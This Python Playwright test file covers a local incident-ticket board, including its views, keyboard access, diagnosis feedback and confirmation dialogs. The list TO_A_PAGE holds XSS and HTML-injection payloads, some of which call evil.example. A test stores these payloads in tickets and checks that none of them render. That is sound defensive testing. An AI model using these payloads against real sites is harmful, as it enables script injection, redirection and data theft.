"""The board as a person has it: `make board` in a real browser, on a stack where incidents have happened."""

import re
from collections.abc import Iterator
from itertools import cycle
from typing import TYPE_CHECKING, Any

import boto3
import pytest
from playwright.sync_api import Browser, Page, expect

from local.board.incidents import WRITTEN, alarms_ticket
from local.pictures.board import DARK, LIGHT, PICTURES, WIDTH, press, reached, settled, widget
from local.pictures.session import commands, session
from local.pictures.words import likeness, words_of_png, words_of_svg
from runtime.items import storable
from tests.support.board_page import Served, Watched, grave_findings, picture, says, served
from tests.support.drawn_pages import whole_ticket
from tests.support.injections import INJECTIONS

if TYPE_CHECKING:
    from mypy_boto3_dynamodb.service_resource import Table

# Other tests say what is covered; here the functions run in a process of their own.
pytestmark = pytest.mark.not_followed

NARROW = 400
TO_A_PAGE = [
    '"><img src=x onerror=alert(1)>',
    "\" onmouseover=alert(1) autofocus onfocus=alert(1) x='",
    "</style><script>alert(1)</script>",
    "</cwdb-action><cwdb-action action='html' event='mouseenter'><script>alert(1)</script></cwdb-action>",
    '\\u003cimg src=x onerror=alert(1)\\u003e", "view": "report',
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'/></svg>",
    "<form action='https://evil.example'><button>Show</button></form><base href='https://evil.example'>",
    "<style>@import 'https://evil.example/x.css'; * {background: url(https://evil.example/y)}</style>",
    "<meta http-equiv=refresh content='0; url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %>",
]
"""What acts on a page that takes it for a part of itself."""
FOREIGN = "script, iframe, use, object, embed, base, meta, link, img"
ONE: dict[str, Any] = {"ExpressionAttributeValues": {":one": 1}}


@pytest.fixture(scope="module")
def board() -> Iterator[Served]:
    with served() as running:
        yield running


@pytest.fixture(scope="module")
def eye(chromium: Browser, board: Served) -> Iterator[Watched]:
    """One page for all tests: to make another costs as much as a test."""
    with chromium.new_page(timezone_id="UTC", locale="en-GB") as page:
        yield Watched(page, board.url)


@pytest.fixture
def page(eye: Watched) -> Iterator[Page]:
    yield eye.opened()
    assert eye.acted == []


@pytest.fixture
def table(board: Served) -> "Table":
    aws = boto3.Session("local", "local", region_name="us-east-1")
    return aws.resource("dynamodb", endpoint_url=board.aws).Table("differential-tickets")


@pytest.fixture
def alarmed(table: "Table") -> str:
    """The id of the ticket that an alarm has set off."""
    return alarms_ticket(str(each["ticket_id"]) for each in table.scan()["Items"])


def item(table: "Table", ticket_id: str) -> dict[str, Any]:
    return dict(table.get_item(Key={"ticket_id": ticket_id}, ConsistentRead=True)["Item"])


def titles(page: Page) -> list[str]:
    return widget(page).locator("tbody button").all_inner_texts()


def open_all(page: Page) -> None:
    widget(page).locator("details").evaluate_all("all => all.forEach(each => each.open = true)")


# First, since it compares with what nobody has pressed anything on.
def test_the_pictures_show_what_there_is(page: Page, eye: Watched, board: Served, alarmed: str) -> None:
    """`make pictures` takes them anew."""
    for each in PICTURES:
        if not each.is_empty and each.theme == LIGHT and each.width == WIDTH:
            now = reached(eye.opened(), each)
            assert likeness(words_of_png(picture(f"{each.name}.png").read_bytes()), now) > 0.9, each.name
    _, _, typed = words_of_svg(picture("session.svg").read_text("utf-8")).partition("$")
    recorded = ["$", *typed.split()]
    told = session(board.aws, commands(alarmed)[:2]).export_text().split()
    assert likeness(" ".join(recorded[: len(told)]), " ".join(told)) > 0.9


@pytest.mark.parametrize(
    ("theme", "width", "views"),
    [
        (LIGHT, WIDTH, ("", "Quotes fail", "orders-db")),
        (DARK, NARROW, ("", "Quotes fail", "queue_drains")),
    ],
)
def test_no_view_shuts_anybody_out(
    page: Page, eye: Watched, theme: str, width: int, views: tuple[str, ...]
) -> None:
    """The list; a diagnosis; an incident with its members; a ticket that could not be diagnosed."""
    eye.opened(theme, width)
    for view in views:
        if view:
            press(page, view)
            open_all(page)
        assert grave_findings(page) == [], view
        assert widget(page).evaluate("each => each.scrollWidth - each.clientWidth") <= 0, view
        if view:
            press(page, "All tickets")


def test_a_keyboard_is_enough(page: Page) -> None:
    button = widget(page).get_by_role("button", name="Quotes fail")
    for _ in range(30):
        page.keyboard.press("Tab")
        if button.evaluate("each => each === document.activeElement"):
            break
    expect(button).to_have_css("outline-style", "solid")
    page.keyboard.press("Enter")
    expect(widget(page).get_by_role("heading", level=2)).to_contain_text("Quotes fail")
    expect(widget(page).get_by_role("img").first).to_be_visible()
    expect(widget(page)).to_contain_text("confidence: high")
    widget(page).get_by_role("button", name="All tickets").focus()
    page.keyboard.press("Space")
    expect(widget(page).get_by_role("heading", level=2)).to_have_text("Tickets and incidents")


def test_a_list_is_chosen_by_state(page: Page) -> None:
    everything = titles(page)
    widget(page).locator("select[name=state]").select_option("failed")
    press(page, "Show")
    assert titles(page) == ["queue_drains"]
    press(page, "queue_drains")
    expect(widget(page)).to_contain_text("It could not be diagnosed")
    press(page, "All tickets")
    assert titles(page) == ["queue_drains"], "the list is chosen as it was"
    widget(page).locator("select[name=state]").select_option("")
    press(page, "Show")
    assert titles(page) == everything


def test_a_diagnosis_is_confirmed_however_often_the_button_is_pressed(page: Page, table: "Table") -> None:
    press(page, "ledger-db is full")
    widget(page).get_by_label("In your words").fill('it was "the lock" <b>&</b>')
    widget(page).get_by_role("button", name="Confirmed").dblclick()
    settled(page)
    says(page, "confirmed")
    told = item(table, WRITTEN)["diagnosis_feedback"]
    assert (told["verdict"], told["words"]) == ("confirmed", 'it was "the lock" <b>&</b>')
    press(page, "Confirmed")
    says(page, "Nothing to do: this diagnosis was confirmed before.")
    expect(widget(page)).to_contain_text('it was "the lock" <b>&</b>')


def test_what_cannot_be_taken_back_asks_first(page: Page, table: "Table") -> None:
    press(page, "ledger-db is full")
    if widget(page).get_by_role("button", name="Release").count():
        press(page, "Release")
    press(page, "Hold")
    says(page, "held")
    assert item(table, WRITTEN)["held"] is True
    widget(page).get_by_role("button", name="Resolve").click()
    expect(page.locator("#confirmation")).to_contain_text("Resolve this ticket?")
    page.keyboard.press("Escape")
    expect(page.locator("#confirmation")).to_be_hidden()
    assert item(table, WRITTEN)["status"] == "diagnosed"
    widget(page).get_by_role("button", name="Resolve").click()
    page.get_by_role("button", name="Confirm", exact=True).click()
    says(page, "This ticket is resolved.")
    assert item(table, WRITTEN)["status"] == "resolved"
    expect(widget(page).get_by_role("button", name="Resolve")).to_have_count(0)


def test_a_member_leaves_its_incident_and_is_diagnosed(page: Page, table: "Table") -> None:
    press(page, "orders-db")
    member = widget(page).get_by_role("button", name=re.compile("^orders-1-errors")).first
    ticket_id = member.inner_text()
    member.click()
    settled(page)
    widget(page).get_by_role("button", name="Detach").click()
    page.get_by_role("button", name="Confirm", exact=True).click()
    says(page, "leaves its incident")
    for _ in range(100):
        if item(table, ticket_id).get("diagnosis_status") == "done":
            break
        page.wait_for_timeout(100)
    page.get_by_role("button", name="Refresh").click()
    settled(page)
    press(page, "look at orders-1")
    expect(widget(page)).to_contain_text("Cause")
    assert "incident_id" not in item(table, ticket_id)


def test_a_page_that_is_out_of_date_writes_nothing(page: Page, table: "Table", alarmed: str) -> None:
    press(page, "Quotes fail")
    table.update_item(
        Key={"ticket_id": alarmed}, UpdateExpression="SET generation = generation + :one", **ONE
    )
    press(page, "Wrong")
    says(page, "the ticket has gone on since")
    assert item(table, alarmed).get("diagnosis_feedback", {}).get("verdict") != "wrong"
    press(page, "Wrong")
    says(page, "Noted: this diagnosis is wrong.")


def test_the_board_says_what_it_is_and_is_drafted_as_a_report(page: Page) -> None:
    expect(page.locator("header")).to_contain_text("This is a local page, not CloudWatch.")
    expect(page.locator("header")).to_contain_text("A stand-in answers in Claude's place")
    page.get_by_role("button", name="Get documentation").click()
    expect(page.locator("#popup")).to_contain_text("Parameters, all optional")
    page.get_by_role("button", name="Close").click()
    press(page, "Quotes fail")
    press(page, "Draft of a report")
    expect(widget(page)).to_contain_text("Timeline")


def test_nothing_that_stands_on_a_ticket_acts(page: Page, eye: Watched, table: "Table") -> None:
    attempts = [*TO_A_PAGE, *INJECTIONS]
    for number, (theme, width) in enumerate(((LIGHT, WIDTH), (DARK, NARROW))):
        left = cycle(attempts[number * 7 :] + attempts[: number * 7])
        severity = f"grave {number}"
        hostile = whole_ticket(lambda _, left=left: next(left), ticket_id=f"hostile {TO_A_PAGE[number]}")
        table.put_item(Item=dict(storable({**hostile, "severity": severity, "incident_id": "x"})))
        eye.opened(theme, width)
        widget(page).locator("select[name=severity]").select_option(severity)
        press(page, "Show")
        row = widget(page).locator("tbody button").first
        row.hover()
        row.click()
        settled(page)
        open_all(page)
        page.mouse.move(200, 400)
        press(page, "Confirmed")
        says(page, "confirmed")
        expect(widget(page)).to_contain_text("hostile")
        expect(widget(page).locator(FOREIGN)).to_have_count(0)
        press(page, "Draft of a report")
        expect(widget(page).locator(FOREIGN)).to_have_count(0)
        expect(page.locator("#trouble"), "the frame had nothing to take out").to_be_hidden()


# Last, since nothing is left.
def test_nothing_is_said_kindly(page: Page, table: "Table") -> None:
    with table.batch_writer() as batch:
        for each in table.scan(ProjectionExpression="ticket_id")["Items"]:
            batch.delete_item(Key=dict(each))
    page.get_by_role("button", name="Refresh").click()
    expect(widget(page)).to_contain_text("All quiet")
    assert grave_findings(page) == []
    [shown] = [each for each in PICTURES if each.is_empty]
    assert likeness(words_of_png(picture(f"{shown.name}.png").read_bytes()), widget(page).inner_text()) > 0.9
